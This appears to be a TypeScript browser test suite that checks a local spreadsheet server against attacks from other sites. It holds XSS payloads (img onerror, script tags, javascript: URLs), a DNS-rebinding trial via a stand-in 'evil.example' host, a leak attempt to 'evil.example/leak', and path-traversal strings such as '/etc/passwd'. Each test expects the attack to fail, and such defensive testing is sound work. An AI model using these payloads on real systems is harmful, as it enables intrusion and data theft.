/** Another site in a real browser that knows everything, the whole address too: it can neither read nor write. */
import { readFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Browser, Page as BrowserPage } from 'playwright-core';
import { startChromium } from '../../scripts/chromium.mjs';
import { readAssets } from '../../src/local/page/assets.ts';
import { type PageServer, servePage } from '../../src/local/page/server.ts';
import { files, NOW, type Page, pageOf, tabOf, write } from '../local/page/support.ts';
import { routes } from './borders.ts';
import { note } from './trial.ts';

const made = files();
let path = '';
let server: PageServer;
let page: Page;
/** The site of somebody else: what it serves, and what came to it. */
let site: Server;
let html = '';
const heard: { url: string; referer: string | undefined }[] = [];
let browser: Browser;
let sheetId = 0;

const SECRET = 'Người Bí Mật Mẫu';
const HOSTILE_NAME =
  '<img src=x onerror="document.title=\'hacked\';window.hacked=1"><script>window.hacked=1</script>';

beforeAll(async () => {
  path = await made.sample();
  server = await servePage({ path, now: NOW, assets: readAssets(), port: 0 });
  page = pageOf(server, 'owner');
  sheetId = (await tabOf(path, 'MN')).sheetId;
  await page.edit([write(sheetId, 6, 2, { stringValue: SECRET })]);
  site = createServer((request, response) => {
    heard.push({ url: request.url ?? '', referer: request.headers.referer });
    response.writeHead(200, {
      'Content-Type': 'text/html; charset=utf-8',
      'Access-Control-Allow-Origin': '*',
    });
    response.end(request.url === '/' ? html : 'ok');
  });
  await new Promise<void>((done) => site.listen(0, '127.0.0.1', done));
  browser = await startChromium(['--host-resolver-rules=MAP evil.example 127.0.0.1']);
});
afterAll(async () => {
  await browser?.close();
  await server?.close();
  site?.closeAllConnections();
  site?.close();
  made.remove();
});

const port = () => (site.address() as AddressInfo).port;
/** A page of that site, by the names under which it comes to this machine. */
const SITES = ['127.0.0.1', 'localhost', 'evil.example'] as const;

async function visit(host: string, body = ''): Promise<BrowserPage> {
  html = `<!doctype html><title>Trang lạ</title>${body}`;
  const elsewhere = await (await browser.newContext()).newPage();
  await elsewhere.goto(`http://${host}:${port()}/`);
  return elsewhere;
}

/** The state that nothing from elsewhere may change. */
async function state(): Promise<string> {
  const { revision } = await page.book();
  return `${revision} ${readFileSync(path).toString('base64').length}`;
}

const edit = () => ({ page: 'evil', base: 999, requests: [write(sheetId, 7, 2, { stringValue: 'Kẻ Lạ' })] });
const call = { page: 'evil', door: 'sideConsolidate', args: [], activeSheetId: 0 };

describe.each(SITES)('a page of %s on another port, with the address and its token', (host) => {
  test('reads nothing and writes nothing by fetch, whatever way it is asked', async () => {
    const before = await state();
    const elsewhere = await visit(host);
    const wanted = routes().map(({ method, path: route }) => ({ method, url: server.address + route }));
    expect(wanted.length).toBeGreaterThan(5);
    const answers = await elsewhere.evaluate(
      async ({ urls, bodies }) => {
        const read: string[] = [];
        for (const { method, url } of urls)
          for (const mode of ['cors', 'no-cors', 'same-origin'] as const)
            for (const type of ['application/json', 'text/plain', 'application/x-www-form-urlencoded'])
              for (const body of method === 'POST' ? bodies : [undefined]) {
                const controller = new AbortController();
                setTimeout(() => controller.abort(), 1_500);
                const headers = { 'Content-Type': type };
                const sent = { method, mode, credentials: 'include' as const, signal: controller.signal };
                try {
                  const answer = await fetch(url, {
                    ...sent,
                    ...(body === undefined ? {} : { body, headers }),
                  });
                  const text = await answer.text();
                  read.push(`${answer.type} ${answer.status} ${text}`);
                } catch {
                  read.push('');
                }
              }
        return read;
      },
      {
        urls: [...wanted, { method: 'GET', url: server.address }],
        bodies: [JSON.stringify(edit()), JSON.stringify(call)],
      },
    );
    for (const answer of answers) {
      note(`page: fetch from ${host}`, 0);
      expect(answer).toMatch(/^(?:opaque 0 )?$/);
    }
    expect(await state()).toBe(before);
    await elsewhere.context().close();
  });

  test('posts no form, shows no picture, script, frame or stream, and opens no window that it can talk to', async () => {
    const before = await state();
    const [base, body] = [server.address, JSON.stringify(edit())];
    const elsewhere = await visit(
      host,
      `<iframe name="in"></iframe><form method="post" target="in" enctype="text/plain"><input name='${body.slice(0, -1)},"a":"' value='"}'></form>`,
    );
    const found = await elsewhere.evaluate(async (address) => {
      const loads = (made: HTMLElement, url: string) =>
        new Promise<string>((done) => {
          made.onload = () => done('loaded');
          made.onerror = () => done('failed');
          setTimeout(() => done('silent'), 1_500);
          (made as HTMLImageElement).src = url;
          document.body.append(made);
        });
      const form = document.forms[0] as HTMLFormElement;
      for (const to of ['api/edit', 'api/call']) {
        form.action = address + to;
        form.submit();
        await new Promise((done) => setTimeout(done, 300));
      }
      const all: Record<string, unknown> = {
        image: await loads(document.createElement('img'), `${address}file`),
        script: await loads(document.createElement('script'), `${address}page.js`),
        data: await loads(document.createElement('script'), `${address}api/book`),
      };
      const frame = document.createElement('iframe');
      await loads(frame, address);
      try {
        all['frame'] = frame.contentDocument?.body.textContent ?? 'closed';
      } catch {
        all['frame'] = 'closed';
      }
      all['stream'] = await new Promise((done) => {
        const stream = new EventSource(`${address}api/events?page=evil`);
        stream.onopen = () => done('open');
        stream.onerror = () => done('failed');
      });
      all['socket'] = await new Promise((done) => {
        const socket = new WebSocket(`${address.replace('http', 'ws')}api/events`);
        socket.onopen = () => done('open');
        socket.onerror = () => done('failed');
      });
      const opened = window.open(address);
      await new Promise((done) => setTimeout(done, 1_500));
      opened?.postMessage({ chungsuc: 'call', id: 1, door: 'sideConsolidate', args: [] }, '*');
      opened?.postMessage({ chungsuc: 'print', html: '<p>x' }, '*');
      all['window'] = opened === null || opened.closed ? 'cut off' : 'held';
      return all;
    }, base);
    expect(found).toEqual({
      image: 'failed',
      script: 'failed',
      data: 'failed',
      frame: 'closed',
      stream: 'failed',
      socket: 'failed',
      window: 'cut off',
    });
    for (const _way of Object.keys(found)) note(`page: elements from ${host}`, 0);
    await new Promise((done) => setTimeout(done, 500));
    expect(await state()).toBe(before);
    await elsewhere.context().close();
  });
});

/** What a browser gets that goes to an address; an error without content is an error to it. */
async function visited(
  where: BrowserPage,
  url: string,
): Promise<{ status: number; length: string | undefined }> {
  const [response] = await Promise.all([
    where.waitForResponse(() => true),
    where.goto(url).catch(() => undefined),
  ]);
  return { status: response.status(), length: response.headers()['content-length'] };
}

test('a name that was made to lead to this machine is not this machine', async () => {
  const before = await state();
  const tab = await (await browser.newContext()).newPage();
  const address = server.address.replace('127.0.0.1', 'evil.example');
  for (const route of ['', ...routes().map(({ path: name }) => name)]) {
    note('page: DNS rebinding', 0);
    expect(await visited(tab, address + route)).toEqual({ status: 403, length: '0' });
  }
  // The site served this page itself, before its name led here: to the browser all that follows is one site.
  const first = new URL('/attack', address).href;
  await tab.route(first, (route) => route.fulfill({ contentType: 'text/html', body: '<p>x' }));
  await tab.goto(first);
  const statuses = await tab.evaluate(
    async ({ to, body }) => {
      const headers = { 'Content-Type': 'application/json' };
      const calls = [fetch(`${to}api/book`), fetch(`${to}api/edit`, { method: 'POST', headers, body })];
      // A browser may not even let it go from a page of the network to this machine.
      const answers = await Promise.allSettled(calls);
      return answers.map((answer) => (answer.status === 'fulfilled' ? answer.value.status : 403));
    },
    { to: address, body: JSON.stringify(edit()) },
  );
  expect(statuses).toEqual([403, 403]);
  expect(await state()).toBe(before);
  await tab.context().close();
});

test('what is typed runs nowhere: not in the grid, a sidebar, or the page to print; and the address is told to nobody', async () => {
  await page.edit([
    write(sheetId, 6, 2, { stringValue: HOSTILE_NAME }),
    write(sheetId, 7, 2, { stringValue: 'javascript:window.hacked=1' }),
  ]);
  await page.call('sideConsolidate');
  const elsewhere = await (await browser.newContext({ viewport: { width: 1366, height: 768 } })).newPage();
  const complaints: string[] = [];
  elsewhere.on('console', (message) => {
    if (/Content.Security.Policy/i.test(message.text())) complaints.push(message.text());
  });
  await elsewhere.goto(server.address);
  await elsewhere.waitForSelector('canvas', { timeout: 60_000 });
  const inside = async () => {
    for (const frame of elsewhere.frames())
      expect(
        await frame.evaluate(() => [(window as { hacked?: number }).hacked, document.title === 'hacked']),
      ).toEqual([undefined, false]);
  };
  await inside();
  for (const sidebar of ['sidebar-problems', 'sidebar-papers', 'sidebar-reminders', 'sidebar-dashboard']) {
    await elsewhere.goto(`${server.address}sidebar/${sidebar}`);
    await inside();
  }
  const printed = await elsewhere.goto(`${server.address}print?sheet=${sheetId}`);
  expect(await printed?.text()).toContain('&lt;img src=x');
  expect(printed?.headers()['content-security-policy']).toMatch(
    /script-src 'sha256-[^']+'(?: 'sha256-[^']+')*;/,
  );
  await inside();
  // What would run if it could: the policy stops it, not only the escaping.
  const ran = await elsewhere.evaluate(async (url) => {
    const script = document.createElement('script');
    script.textContent = 'window.hacked = 1';
    document.body.append(script);
    document.body.insertAdjacentHTML('beforeend', '<img src=x onerror="window.hacked=1">');
    const link = document.createElement('img');
    link.src = url;
    document.body.append(link);
    await new Promise((done) => setTimeout(done, 500));
    return (window as { hacked?: number }).hacked;
  }, `http://evil.example:${port()}/leak`);
  expect(ran).toBeUndefined();
  expect(complaints.length).toBeGreaterThan(0);
  await elsewhere.goto(`http://127.0.0.1:${port()}/after`);
  const told = heard.filter(
    ({ url, referer }) => url === '/leak' || (referer ?? '').includes(server.address.slice(-20)),
  );
  expect(told).toEqual([]);
  note('page: hostile names', 0);
  await elsewhere.context().close();
});

test('no path leads out, however it is written', async () => {
  const token = new URL(server.address).pathname;
  const tab = await (await browser.newContext()).newPage();
  const evil = [
    '..%2f..%2fpackage.json',
    '%2e%2e/%2e%2e/etc/passwd',
    '..%5c..%5cx',
    '..\\..\\x',
    'x%00',
    '%00',
    'parts/..%2f..%2fserver.ts',
    'sidebar/..%2f..%2fCode.js',
    'file/../../x',
    '/etc/passwd',
    'C:%5cWindows',
    'sidebar/__proto__',
    'constructor',
    'a'.repeat(5_000),
  ];
  for (const one of evil) {
    note('page: paths', 0);
    const { status, length } = await visited(tab, `http://127.0.0.1:${server.port}${token}${one}`);
    expect([one, [401, 404].includes(status), length]).toEqual([one, true, '0']);
  }
  await tab.context().close();
});
